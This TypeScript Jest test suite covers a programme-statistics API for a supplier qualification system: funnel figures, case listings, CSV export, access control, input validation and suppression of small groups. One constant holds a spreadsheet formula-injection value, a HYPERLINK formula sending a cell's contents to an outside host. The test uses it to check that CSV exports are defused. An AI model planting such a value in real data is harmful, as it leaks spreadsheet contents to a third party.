import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import type { FigureCaseView, FigureDefinitionList, FigureView, PublicFiguresView } from '#contracts';
import { FIGURE_IDS, figureOf, PUBLIC_FIGURE_IDS, SMALLEST_GROUP, type FigureId } from '#domain';
import { fillIn, sectionsOf } from '../../apps/dev/src/play/supplier.js';
import * as roles from '../../apps/dev/src/play/roles.js';
import { raw } from '../support/raw.js';
import { Story } from '../support/story.js';
import { refusal, World } from '../support/world.js';

/** No other spec is at home there. */
const HERE = 'KH-24';
const BOM = '\uFEFF';
/** What a spreadsheet would run, had it the chance. */
const DANGEROUS = `=HYPERLINK("http://example.org?"&A1,"Open") Co., Ltd.`;

describe('the programme view', () => {
  let world: World;
  let qualified: Story;
  let late: Story;
  beforeAll(async () => {
    world = await World.open();
    [qualified, late] = await Promise.all([
      Story.open(world, { province: HERE, name: DANGEROUS }).then((story) => story.qualified()),
      Story.open(world, { province: HERE }),
    ]);
    await fillIn(late.applicant, late.id);
    const profile = { ...sectionsOf(late.applicant)['profile'], womenOwned: true };
    await late.supplier.put(`${late.path}/sections/profile`, profile, 2);
    await late.supplier.ask(late.id, { type: 'submit-application' });
  });
  afterAll(() => world.close());

  const office = () => world.parties.officer.api;
  const path = (figure: FigureId, query = ''): string => `/v1/programme/figures/${figure}${query}`;
  const read = (figure: FigureId, query = ''): Promise<FigureView> =>
    office().get<FigureView>(path(figure, `?province=${HERE}${query}`));
  const valuesOf = async (figure: FigureId, key: string) =>
    (await read(figure)).rows.find((row) => row.key === key)?.values;
  const casesOf = (figure: FigureId, query: string, key = 'application', measure = 'entered') =>
    office().get<{ items: FigureCaseView[]; next: string | null }>(
      path(figure, `/cases?province=${HERE}&key=${key}&measure=${measure}${query}`),
    );

  it('says of each figure in words and codes what it is, to everybody', async () => {
    const { items } = (await raw('GET', '/v1/programme/figures?language=km'))
      .body as unknown as FigureDefinitionList;
    expect(items.map(({ figure }) => figure)).toEqual(FIGURE_IDS);
    const english = (await raw('GET', '/v1/programme/figures')).body as unknown as FigureDefinitionList;
    expect(english.items[0]).toMatchObject({
      ...{
        figure: 'funnel',
        title: 'From application to qualification',
        keys: 'stage',
        estimate: false,
        public: true,
      },
      ...{ dimensions: ['province', 'category', 'size', 'women-owned', 'cohort'] },
    });
    expect(english.items[0]?.measures[0]).toEqual({ id: 'entered', unit: 'cases', listed: true });
    expect(items.every(({ title, definition }) => /\p{Script=Khmer}/u.test(title + definition))).toBe(true);
    expect(english.items.filter((one) => one.public).map(({ figure }) => figure)).toEqual(PUBLIC_FIGURE_IDS);
  });

  it('counts what decisions have written down', async () => {
    const funnel = await read('funnel');
    expect(funnel).toMatchObject({ figure: 'funnel', by: null });
    expect(funnel.rows[0]).toMatchObject({
      ...{ group: null, key: 'application', count: 2 },
      values: { entered: 2, passed: 1, passedShare: 50, stillIn: 1 },
    });
    expect(await valuesOf('funnel', 'qualified')).toMatchObject({ entered: 1, passed: null, stillIn: 1 });
    expect(await valuesOf('qualified-base', 'A')).toMatchObject({ valid: 1, share: 100 });
    expect(await valuesOf('approvals', 'all')).toMatchObject({ valid: 1, approvals: 1, withoutOrder: 1 });
    expect(await valuesOf('province-map', HERE)).toEqual({ applied: 2, underWay: 1, valid: 1 });
    expect(await valuesOf('time-to-qualification', 'all')).toMatchObject({ qualified: 1, underWay: 1 });
    const split = await office().get<FigureView>(path('funnel', `?province=${HERE}&by=category`));
    expect(split.rows[0]).toMatchObject({ group: 'TRIMS', key: 'application', count: 2 });
  });

  it('knows for whom a case waited from each decision on', async () => {
    const waits = await world.rows<{ seq: number; since: Date; waits: string[] }>(
      'select seq, since, waits_for as waits from case_wait where qualification_id = $1 order by seq',
      [qualified.id],
    );
    const journal = await qualified.journal();
    const at = (seq: number) => journal.find((row) => row.seq === seq)?.occurredAt;
    expect(waits.map(({ seq, since }) => [seq, since.toISOString()])).toEqual(
      waits.map(({ seq }) => [seq, at(seq)]),
    );
    const sides = waits.map(({ waits: one }) => one.join('+'));
    expect(sides.slice(0, 3)).toEqual(['supplier', 'office', 'checks']);
    expect(sides.slice(-2)).toEqual(['buyer', '']);
    expect(sides).toContain('auditor');
    expect(sides.every((one, n) => one !== sides[n + 1])).toBe(true);
  });

  it('tells tasks that were done in time from those that were not, and leaves out what fell away', async () => {
    const ended = (id: string) =>
      world.rows<{ role: string; what: string; in_time: boolean }>(
        'select role, what, in_time from ended_task where qualification_id = $1 order by seq, what',
        [id],
      );
    const done = await ended(qualified.id);
    expect(done.slice(0, 2)).toEqual([
      { role: 'supplier', what: 'complete-application', in_time: true },
      { role: 'officer', what: 'check-completeness', in_time: true },
    ]);
    expect(done.map(({ role }) => role)).toEqual(
      expect.arrayContaining(['auditor', 'reviewer', 'buyer-approver']),
    );
    // Nobody had to find a buyer: this one came by itself.
    expect(done.filter(({ what }) => what === 'match-buyer')).toEqual([]);
    await world.pass(late.id, { days: 10 });
    await roles.accept(world.parties, late.id);
    expect((await ended(late.id)).slice(0, 2)).toEqual([
      { role: 'supplier', what: 'complete-application', in_time: true },
      { role: 'officer', what: 'check-completeness', in_time: false },
    ]);
    const before = await ended(late.id);
    await late.supplier.ask(late.id, { type: 'withdraw', reason: 'cost' });
    expect(await ended(late.id)).toEqual(before);
    expect(await valuesOf('service-levels', 'supplier')).toMatchObject({ inTimeShare: 100 });
    expect((await valuesOf('service-levels', 'officer'))?.done).toBeGreaterThan(1);
    expect(await valuesOf('failure-reasons', 'withdrawal:cost')).toMatchObject({ cases: 1, cumulative: 100 });
  });

  it('lists the cases behind a number, a page at a time', async () => {
    const first = await casesOf('funnel', '&limit=1');
    expect(first.items[0]).toMatchObject({
      ...{ province: HERE, category: 'TRIMS', value: null },
      submittedAt: expect.stringMatching(/Z$/),
    });
    const rest = await casesOf('funnel', `&limit=1&cursor=${first.next}`);
    expect(rest.next).toBeNull();
    const ids = [...first.items, ...rest.items].map(({ qualificationId }) => qualificationId);
    expect(ids.sort()).toEqual([qualified.id, late.id].sort());
    const womens = await casesOf('funnel', '&womenOwned=true');
    expect(womens.items).toMatchObject([{ qualificationId: late.id, womenOwned: true }]);
    const passed = await casesOf('funnel', '', 'application', 'passed');
    expect(passed.items.map(({ supplierName, stage }) => [supplierName, stage])).toContainEqual([
      ...[DANGEROUS, 'qualified'],
    ]);
    const timed = await casesOf('time-to-qualification', '', 'all', 'qualified');
    expect(timed.items).toMatchObject([{ qualificationId: qualified.id, value: expect.any(Number) }]);
  });

  it('gives tables that a spreadsheet reads, and in which nothing is a formula', async () => {
    const { token } = world.stack.office;
    const figure = await raw('GET', path('funnel', `/csv?province=${HERE}`), { token });
    expect(figure.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(figure.headers.get('content-disposition')).toContain('filename="funnel.csv"');
    const bytes = await office().download(
      path('funnel', `/cases/csv?province=${HERE}&key=application&measure=entered`),
    );
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [head, ...lines] = parse(bytes, { bom: true }) as string[][];
    expect(head?.slice(0, 3)).toEqual(['caseNumber', 'supplierName', 'category']);
    expect(lines).toHaveLength(2);
    expect(lines.map(([, name]) => name)).toContain(`'${DANGEROUS}`);
    expect(
      bytes
        .toString()
        .replace(BOM, '')
        .split(/[,\r\n]/)
        .filter((cell) => /^"?[=+\-@]/.test(cell)),
    ).toEqual([]);
    const rows = parse(await office().download(path('funnel', `/csv?province=${HERE}&by=category`)), {
      bom: true,
    }) as string[][];
    expect(rows[0]?.slice(0, 4)).toEqual(['category', 'stage', 'entered', 'passed']);
    expect(rows[1]?.slice(0, 4)).toEqual(['TRIMS', 'application', '2', '2']);
  });

  it('costs one statement beside the look-up of the token', async () => {
    for (const figure of FIGURE_IDS) {
      const { statements, flights } = await office().request('GET', path(figure));
      expect({ figure, statements, flights }).toEqual({ figure, statements: 5, flights: 2 });
    }
    const listed = await office().request('GET', path('funnel', '/cases?key=application&measure=entered'));
    expect(listed).toMatchObject({ statements: 5, flights: 2 });
  });

  it('is the office’s alone', async () => {
    const { mill, auditor, brand } = world.parties;
    const others = [qualified.supplier, mill.requester.api, brand.approver.api, auditor.api];
    const asked = [
      'funnel',
      'funnel/csv',
      'funnel/cases?key=application&measure=entered',
      'funnel/cases/csv?key=a&measure=entered',
    ];
    for (const api of others)
      for (const one of asked)
        expect(await refusal(api.get(`/v1/programme/figures/${one}`))).toEqual({
          status: 403,
          code: 'role-not-allowed',
        });
    for (const one of asked) expect((await raw('GET', `/v1/programme/figures/${one}`)).status).toBe(401);
  });

  it('says what it cannot be asked', async () => {
    const wrong = async (figure: string, query: string) => {
      const { status, body } = await raw('GET', `/v1/programme/figures/${figure}?${query}`, {
        token: world.stack.office.token,
      });
      const errors = (body['errors'] ?? []) as { pointer: string; in?: string }[];
      return [status, ...errors.map(({ pointer }) => pointer)];
    };
    expect(await wrong('funnel', 'from=2026-13')).toEqual([422, '#/from']);
    expect(await wrong('funnel', 'from=2026-05&to=2026-04')).toEqual([422, '#/to']);
    expect(await wrong('funnel', 'province=KH-99')).toEqual([422, '#/province']);
    expect(await wrong('funnel', 'by=colour')).toEqual([422, '#/by']);
    expect(await wrong('nothing', '')).toEqual([422, '#/figure']);
    expect(await wrong('funnel/cases', 'key=application')).toEqual([422, '#/measure']);
    expect(await wrong('funnel/cases', 'key=application&measure=passedShare')).toEqual([422, '#/measure']);
    expect(await wrong('funnel/cases/csv', 'key=application&measure=passedShare')).toEqual([
      422,
      '#/measure',
    ]);
    const cursor = 'key=application&measure=entered&cursor=IlgiCg';
    expect(await wrong('funnel/cases', cursor)).toEqual([400]);
  });

  it('goes where a site goes', async () => {
    const { supplierId, siteId } = qualified.applicant;
    const site = `/v1/suppliers/${supplierId}/sites/${siteId}`;
    const change = (province: string, version: number) =>
      qualified.supplier.request('PATCH', site, { province }, { 'if-match': `"${version}"` });
    await change('KH-18', 1);
    expect(await valuesOf('province-map', HERE)).toMatchObject({ valid: 0 });
    await change(HERE, 2);
    expect(await valuesOf('province-map', HERE)).toMatchObject({ valid: 1 });
  });

  it('tells everybody what no small group can be known by', async () => {
    const answer = await raw('GET', '/v1/programme/public-figures');
    const view = answer.body as unknown as PublicFiguresView;
    expect(view).toMatchObject({ smallestGroup: SMALLEST_GROUP, asOf: expect.stringMatching(/Z$/) });
    expect(view.figures.map(({ figure }) => figure)).toEqual(PUBLIC_FIGURE_IDS);
    const small = view.figures.flatMap(({ figure, rows }) =>
      rows.flatMap(({ key, values }) =>
        figureOf(figure)
          .measures.filter(
            ({ id, counts }) =>
              counts === true && (values[id] ?? 0) > 0 && (values[id] ?? 0) < SMALLEST_GROUP,
          )
          .map(({ id }) => `${figure} ${key} ${id}`),
      ),
    );
    expect(small).toEqual([]);
    expect(answer.text).not.toContain(DANGEROUS);
    const again = await raw('GET', '/v1/programme/public-figures?province=KH-24');
    expect(again.body['asOf']).toBe(view.asOf);
  });
});
